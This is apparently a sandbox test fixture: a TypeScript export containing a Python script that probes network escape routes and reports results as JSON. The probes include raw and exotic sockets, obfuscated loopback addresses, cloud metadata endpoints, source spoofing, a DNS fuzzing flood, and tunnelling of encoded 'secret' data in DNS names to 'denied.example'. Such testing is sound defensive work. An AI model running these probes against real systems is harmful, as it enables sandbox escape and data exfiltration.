/**
 * A Python program that tries ways out of a sandbox. Prints one JSON object: what was tried, to what became of it:
 * `open`, the name of the error, or the first bytes that came back. Its argument is a port of the host's loopback.
 */
export const NETWORK_ATTACKS = `
import errno, json, os, random, socket, struct, sys
PORT = int(sys.argv[1])
V4, V6, TCP, UDP = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM
results = {}
def attempt(name, action):
    try: results[name] = action()
    except OSError as error: results[name] = errno.errorcode.get(error.errno, "timed out")
def made(*kind):
    socket.socket(*kind).close()
    return "open"
def talk(family, place, prepare=lambda s: None, data=b"hello\\n"):
    with socket.socket(family, TCP) as s:
        s.settimeout(3)
        prepare(s)
        s.connect(place)
        s.sendall(data)
        return s.recv(80).decode("latin1")
def datagram(place):
    with socket.socket(V4, UDP) as s:
        s.settimeout(1)
        s.connect(place)
        s.send(b"x")
        return s.recv(99).decode("latin1")

for name, kind in {
    "multipath tcp": (V4, TCP, 262), "multipath tcp 6": (V6, TCP, 262), "sctp": (V4, TCP, 132),
    "sctp packets": (V4, 5, 132), "dccp": (V4, 6, 33), "udp lite": (V4, UDP, 136), "ping": (V4, UDP, 1),
    "ping 6": (V6, UDP, 58), "raw": (V4, 3, 6), "raw of any kind": (V4, 3, 0), "packets, the old way": (V4, 10, 0),
    "netfilter": (16, 3, 12), "kernel events": (16, 3, 15), "bluetooth": (31, 3, 0), "express data path": (44, 3, 0),
}.items(): attempt("no " + name, lambda: made(*kind))
attempt("yes tcp", lambda: made(V4, TCP))

spellings = ["127.0.0.1", "127.1", "0", "2130706433", "0x7f000001", "017700000001", "127.0.0.2", "::1", "::",
    "::ffff:127.0.0.1", "::ffff:7f00:1", "64:ff9b::7f00:1", "2002:7f00:1::", "169.254.169.254", "fd00:ec2::254",
    "100.100.100.200", "168.63.129.16", "10.0.0.1", "198.18.0.9", "198.19.255.255", "224.0.0.1", "255.255.255.255"]
for text in spellings:
    family = V6 if ":" in text else V4
    attempt("host by " + text, lambda: talk(family, (text, PORT)))
attempt("gateway itself", lambda: talk(V4, ("127.0.0.1", 53)))
attempt("gateway itself 6", lambda: talk(V6, ("::1", 53)))
attempt("dns over tcp", lambda: talk(V4, ("8.8.8.8", 53)))

option = lambda level, name, value: lambda s: s.setsockopt(level, name, value)
target = ("10.9.8.7", PORT)
attempt("mark", lambda: talk(V4, target, option(1, 36, 1)))
attempt("transparent", lambda: talk(V4, target, option(0, 19, 1)))
attempt("from the address of another", lambda: talk(V4, target, lambda s: s.bind(("10.0.0.5", 0))))
attempt("from a port of the system", lambda: talk(V4, target, lambda s: s.bind(("0.0.0.0", 443))))
def fast():
    with socket.socket(V4, TCP) as s:
        s.settimeout(3)
        s.sendto(b"hello", 0x20000000, target)
        return s.recv(80).decode("latin1")
attempt("data in the first packet", fast)
for place in [("10.9.8.7", 123), ("8.8.8.8", 443), ("224.0.0.251", 5353), ("255.255.255.255", 67), ("198.18.0.9", 443)]:
    attempt("datagram to %s:%d" % place, lambda: datagram(place))

def lookup(name, kind=1):
    query = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0)
    query += b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\\0" + struct.pack(">HH", kind, 1)
    with socket.socket(V4, UDP) as s:
        s.settimeout(1)
        for _ in range(10):
            s.sendto(query, ("127.0.0.1", 53))
            try: return s.recv(600)
            except TimeoutError: pass # the flood may still fill the queue, as for any client
random.seed(1)
with socket.socket(V4, UDP) as s:
    for size in list(range(40)) * 20 + [512, 1500, 9000, 60000]:
        s.sendto(random.randbytes(size), ("127.0.0.1", 53))
        s.sendto(b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + random.randbytes(size), ("127.0.0.1", 53))
    s.sendto(b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\xc0\\x0c\\0\\1\\0\\1", ("127.0.0.1", 53))
for kind in (1, 10, 15, 16, 28, 255):
    attempt("data in a name, type %d" % kind, lambda: lookup(b"c2VjcmV0." * 20 + b"denied.example", kind)[3] & 15)
attempt("yes lookup", lambda: socket.inet_ntoa(lookup(b"allowed.example")[-4:])[:7])
attempt("yes name", lambda: talk(V4, ("allowed.example", 7000)))
print(json.dumps(results))
`;
